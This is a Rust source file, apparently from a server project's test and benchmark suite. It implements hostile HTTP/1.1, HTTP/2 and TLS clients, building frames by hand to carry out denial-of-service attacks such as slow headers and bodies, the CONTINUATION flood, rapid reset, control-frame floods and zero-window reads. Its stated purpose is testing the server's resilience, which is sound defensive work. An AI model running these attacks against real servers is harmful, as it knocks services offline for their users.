//! Hostile clients: connections that try to cost a server as much as possible. Tests and the benchmark run them beside
//! well-behaved clients. The attacks write HTTP/2 frames byte by byte (RFC 9113), because a client library would not
//! send them.

use std::fmt;
use std::future::{Future, pending};
use std::pin::Pin;
use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt, Interest, ReadHalf, WriteHalf, split};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

use crate::Socket;

/// The pause between the pieces of a slow attack.
const PAUSE: Duration = Duration::from_millis(50);
/// The number of frames that a flood sends in one write.
const BATCH: usize = 64;

/// A server to attack.
#[derive(Clone)]
pub struct AttackTarget {
    address: String,
    name: ServerName<'static>,
    tls: Arc<ClientConfig>,
    list: String,
    object: String,
}

impl AttackTarget {
    /// A server at `HOST:PORT` whose certificate is valid for `name`. `list` is the path of a large list, and `object`
    /// is the path of a large object.
    ///
    /// # Panics
    /// Panics if `name` is not a host name or an address.
    #[must_use]
    pub fn new(address: &str, name: &str, tls: ClientConfig, list: &str, object: &str) -> Self {
        let name = ServerName::try_from(name.to_owned()).expect("a server name");
        Self { address: address.to_owned(), name, tls: Arc::new(tls), list: list.to_owned(), object: object.to_owned() }
    }

    async fn connect_tcp(&self) -> std::io::Result<TcpStream> {
        let stream = TcpStream::connect(&self.address).await?;
        stream.set_nodelay(true)?;
        Ok(stream)
    }

    async fn connect(&self) -> std::io::Result<Socket> {
        let stream = self.connect_tcp().await?;
        TlsConnector::from(self.tls.clone()).connect(self.name.clone(), stream).await
    }

    /// Opens an HTTP/2 connection with these settings.
    async fn connect_http2(&self, settings: &[u8]) -> std::io::Result<Socket> {
        let mut socket = self.connect().await?;
        let mut start = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        start.extend(frame(SETTINGS, 0, 0, settings));
        socket.write_all(&start).await?;
        Ok(socket)
    }
}

impl fmt::Debug for AttackTarget {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AttackTarget").field("address", &self.address).finish_non_exhaustive()
    }
}

/// How the server handles a connection of an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AttackEnd {
    /// The server closes the connection, at once or after a time limit.
    Closed,
    /// The server leaves the connection open while the client is connected, at a bounded cost.
    Open,
}

type AttackFuture = Pin<Box<dyn Future<Output = std::io::Result<()>> + Send>>;

/// An attack of one connection.
#[derive(Clone, Copy)]
pub struct Attack {
    /// A description.
    pub name: &'static str,
    /// How many connections the benchmark opens. Floods need few.
    pub connections: usize,
    /// How the server handles the connection.
    pub end: AttackEnd,
    run: fn(AttackTarget) -> AttackFuture,
}

impl fmt::Debug for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name)
    }
}

impl Attack {
    /// Attacks with one connection, until the server closes it or the future is dropped.
    pub async fn run(&self, target: &AttackTarget) {
        // An error means that the server has reset the connection.
        let _ = (self.run)(target.clone()).await;
    }
}

/// All attacks. If the server has no time limit for an attack, the client answers its HTTP/2 pings.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "TCP without a TLS handshake",
        connections: 1000,
        end: AttackEnd::Closed,
        run: |target| Box::pin(async move { drain(target.connect_tcp().await?).await }),
    },
    Attack {
        name: "a part of a ClientHello",
        connections: 1000,
        end: AttackEnd::Closed,
        run: |target| {
            Box::pin(async move {
                let mut stream = target.connect_tcp().await?;
                stream.write_all(&client_hello()[..100]).await?;
                drain(stream).await
            })
        },
    },
    Attack {
        name: "a handshake within a TLS session",
        connections: 100,
        end: AttackEnd::Closed,
        run: |target| {
            Box::pin(async move {
                let mut socket = target.connect().await?;
                socket.get_mut().0.write_all(&client_hello()).await?;
                drain(socket).await
            })
        },
    },
    Attack {
        name: "idle connections",
        connections: 10_000,
        end: AttackEnd::Closed,
        run: |target| Box::pin(async move { drain(target.connect().await?).await }),
    },
    Attack {
        name: "HTTP/1.1 heads that arrive slowly",
        connections: 1000,
        end: AttackEnd::Closed,
        run: |target| {
            Box::pin(async move {
                let start = b"GET /version HTTP/1.1\r\nhost: x\r\n".to_vec();
                send(target.connect().await?, start, Some(PAUSE), |n| format!("a{n}: b\r\n").into_bytes()).await
            })
        },
    },
    Attack {
        name: "HTTP/1.1 bodies that arrive slowly",
        connections: 1000,
        end: AttackEnd::Closed,
        run: |target| {
            Box::pin(async move {
                let start = format!("POST {} HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\n", target.list);
                send(target.connect().await?, start.into_bytes(), Some(PAUSE), |_| b" ".to_vec()).await
            })
        },
    },
    Attack {
        name: "HTTP/1.1 lists that are not read",
        connections: 100,
        end: AttackEnd::Closed,
        run: |target| {
            let request = format!("GET {} HTTP/1.1\r\nhost: x\r\n\r\n", target.list);
            Box::pin(send_and_leave(target, request))
        },
    },
    Attack {
        name: "HTTP/1.1 watches that are not read",
        connections: 100,
        end: AttackEnd::Closed,
        run: |target| {
            let request = format!("GET {}?watch=1 HTTP/1.1\r\nhost: x\r\n\r\n", target.list);
            Box::pin(send_and_leave(target, request))
        },
    },
    Attack {
        name: "HTTP/2 heads that do not end",
        connections: 1000,
        end: AttackEnd::Closed,
        run: |target| {
            Box::pin(async move {
                let start = frame(HEADERS, END_STREAM, 1, &get_head("/version"));
                send(target.connect_http2(&[]).await?, start, None, |_| Vec::new()).await
            })
        },
    },
    Attack {
        name: "HTTP/2 heads that arrive slowly",
        connections: 1000,
        end: AttackEnd::Closed,
        run: |target| {
            Box::pin(async move {
                let start = frame(HEADERS, END_STREAM, 1, &get_head("/version"));
                let next = |_| frame(CONTINUATION, 0, 1, &header("a", "b"));
                send(target.connect_http2(&[]).await?, start, Some(PAUSE), next).await
            })
        },
    },
    Attack {
        name: "HTTP/2 CONTINUATION flood",
        connections: 4,
        end: AttackEnd::Closed,
        run: |target| {
            Box::pin(async move {
                let start = frame(HEADERS, END_STREAM, 1, &get_head("/version"));
                let next = |_| frame(CONTINUATION, 0, 1, &header("a", "b"));
                send(target.connect_http2(&[]).await?, start, Some(Duration::ZERO), next).await
            })
        },
    },
    Attack {
        name: "HTTP/2 rapid reset",
        connections: 4,
        end: AttackEnd::Open,
        run: |target| {
            Box::pin(async move {
                let list = target.list.clone();
                let next = move |n: u32| {
                    let mut frames = frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &get_head(&list));
                    frames.extend(frame(RST_STREAM, 0, 2 * n + 1, &8_u32.to_be_bytes()));
                    frames
                };
                send(target.connect_http2(&[]).await?, Vec::new(), Some(Duration::ZERO), next).await
            })
        },
    },
    Attack {
        name: "HTTP/2 PING flood",
        connections: 4,
        end: AttackEnd::Open,
        run: |target| Box::pin(flood(target, |_| frame(PING, 0, 0, &[0; 8]))),
    },
    Attack {
        name: "HTTP/2 PING flood without reading",
        connections: 4,
        end: AttackEnd::Closed,
        run: |target| {
            Box::pin(async move {
                let mut socket = target.connect_http2(&[]).await?;
                let pings = frame(PING, 0, 0, &[0; 8]).repeat(BATCH);
                loop {
                    socket.write_all(&pings).await?;
                }
            })
        },
    },
    Attack {
        name: "HTTP/2 SETTINGS flood",
        connections: 4,
        end: AttackEnd::Open,
        run: |target| Box::pin(flood(target, |_| frame(SETTINGS, 0, 0, &[]))),
    },
    Attack {
        name: "HTTP/2 WINDOW_UPDATE flood",
        connections: 4,
        end: AttackEnd::Open,
        run: |target| Box::pin(flood(target, |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))),
    },
    Attack {
        name: "HTTP/2 PRIORITY flood",
        connections: 4,
        end: AttackEnd::Open,
        run: |target| Box::pin(flood(target, |n| frame(PRIORITY, 0, (2 * n + 1) & 0x7fff_ffff, &[0, 0, 0, 0, 1]))),
    },
    Attack {
        name: "HTTP/2 flood of empty DATA frames",
        connections: 4,
        end: AttackEnd::Closed,
        run: |target| {
            Box::pin(async move {
                let start = frame(HEADERS, END_HEADERS, 1, &post_head(&target.list));
                let next = |_| frame(DATA, 0, 1, &[]);
                send(target.connect_http2(&[]).await?, start, Some(Duration::ZERO), next).await
            })
        },
    },
    Attack {
        name: "HTTP/2 lists that are not read",
        connections: 4,
        end: AttackEnd::Closed,
        run: |target| {
            let head = get_head(&target.list);
            Box::pin(async move {
                // SETTINGS_INITIAL_WINDOW_SIZE has its maximum, and so has the window of the connection.
                let mut socket = target.connect_http2(&[0, 4, 0x7f, 0xff, 0xff, 0xff]).await?;
                socket.write_all(&frame(WINDOW_UPDATE, 0, 0, &0x7f00_0000_u32.to_be_bytes())).await?;
                send_requests(&mut socket, &head).await?;
                leave(socket).await
            })
        },
    },
    Attack {
        name: "HTTP/2 lists without a window",
        connections: 100,
        end: AttackEnd::Closed,
        run: |target| {
            let head = get_head(&target.list);
            Box::pin(requests_with_window(target, head, 0))
        },
    },
    Attack {
        name: "HTTP/2 GETs of a large object without a window",
        connections: 20,
        end: AttackEnd::Closed,
        run: |target| {
            let head = get_head(&target.object);
            Box::pin(requests_with_window(target, head, 0))
        },
    },
    Attack {
        name: "HTTP/2 GETs of a large object with a window of one byte",
        connections: 20,
        end: AttackEnd::Closed,
        run: |target| {
            let head = get_head(&target.object);
            Box::pin(requests_with_window(target, head, 1))
        },
    },
    Attack {
        name: "HTTP/2 watches without a window",
        connections: 100,
        end: AttackEnd::Open,
        run: |target| {
            let head = get_head(&format!("{}?watch=1", target.list));
            Box::pin(requests_with_window(target, head, 0))
        },
    },
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

/// An HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A string literal of HPACK (RFC 7541) of up to 126 bytes.
fn literal(text: &str) -> Vec<u8> {
    let mut literal = vec![u8::try_from(text.len()).unwrap_or_default()];
    literal.extend(text.as_bytes());
    literal
}

/// A header field without an index.
fn header(name: &str, value: &str) -> Vec<u8> {
    [vec![0], literal(name), literal(value)].concat()
}

/// The head of a GET.
fn get_head(path: &str) -> Vec<u8> {
    // `:method GET` and `:scheme https` have an index, as the names `:path` and `:authority`.
    [vec![0x82, 0x87, 0x04], literal(path), vec![0x01], literal("x")].concat()
}

/// The head of a POST with JSON.
fn post_head(path: &str) -> Vec<u8> {
    let mut head = get_head(path);
    head[0] = 0x83;
    head.extend(header("content-type", "application/json"));
    head
}

/// A TLS record with a ClientHello that is shorter than its declared length.
fn client_hello() -> Vec<u8> {
    let mut record = vec![22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3];
    record.resize(5 + 512, 0);
    record
}

/// Reads until the server closes the connection.
async fn drain(mut stream: impl tokio::io::AsyncRead + Unpin) -> std::io::Result<()> {
    let mut buffer = vec![0; 4096];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Sends a start and then one piece after the other, with this pause between them. With a pause of zero, it sends
/// batches without waiting. Without a pause, it sends no pieces. It reads the responses at the same time.
async fn send(
    socket: Socket,
    start: Vec<u8>,
    pause: Option<Duration>,
    mut next: impl FnMut(u32) -> Vec<u8> + Send,
) -> std::io::Result<()> {
    let (reader, mut writer) = split(socket);
    let write = async {
        writer.write_all(&start).await?;
        let Some(pause) = pause else { return pending().await };
        let pieces = if pause.is_zero() { BATCH as u32 } else { 1 };
        for batch in 0_u32.. {
            let bytes: Vec<u8> = (0..pieces).flat_map(|n| next(batch.wrapping_mul(pieces).wrapping_add(n))).collect();
            writer.write_all(&bytes).await?;
            writer.flush().await?;
            if !pause.is_zero() {
                tokio::time::sleep(pause).await;
            }
        }
        Ok(())
    };
    tokio::select! {
        closed = drain(reader) => closed,
        failed = write => failed,
    }
}

/// Sends frames without end on an HTTP/2 connection.
async fn flood(target: AttackTarget, next: impl FnMut(u32) -> Vec<u8> + Send) -> std::io::Result<()> {
    send(target.connect_http2(&[]).await?, Vec::new(), Some(Duration::ZERO), next).await
}

/// Sends a request, and reads nothing until the server has closed the connection.
async fn send_and_leave(target: AttackTarget, request: String) -> std::io::Result<()> {
    let mut socket = target.connect().await?;
    socket.write_all(request.as_bytes()).await?;
    leave(socket).await
}

/// Waits until the server has closed the connection, without reading.
async fn leave(socket: Socket) -> std::io::Result<()> {
    let stream = socket.get_ref().0;
    loop {
        // There is unread data, so the end is an event only if the server resets the connection.
        let ready = stream.ready(Interest::READABLE | Interest::WRITABLE).await?;
        if ready.is_read_closed() || ready.is_write_closed() {
            return Ok(());
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Sends the maximum number of requests of an HTTP/2 connection.
async fn send_requests(socket: &mut Socket, head: &[u8]) -> std::io::Result<()> {
    for stream in 0..100 {
        socket.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 2 * stream + 1, head)).await?;
    }
    socket.flush().await
}

/// Sends requests whose responses have a window of `window` bytes, and answers pings.
async fn requests_with_window(target: AttackTarget, head: Vec<u8>, window: u8) -> std::io::Result<()> {
    // SETTINGS_INITIAL_WINDOW_SIZE.
    let mut socket = target.connect_http2(&[0, 4, 0, 0, 0, window]).await?;
    send_requests(&mut socket, &head).await?;
    let (reader, writer) = split(socket);
    answer_pings(reader, writer).await
}

async fn answer_pings(mut reader: ReadHalf<Socket>, mut writer: WriteHalf<Socket>) -> std::io::Result<()> {
    let mut head = [0; 9];
    loop {
        reader.read_exact(&mut head).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        reader.read_exact(&mut payload).await?;
        if head[3] == PING && head[4] & ACK == 0 {
            writer.write_all(&frame(PING, ACK, 0, &payload)).await?;
            writer.flush().await?;
        }
    }
}
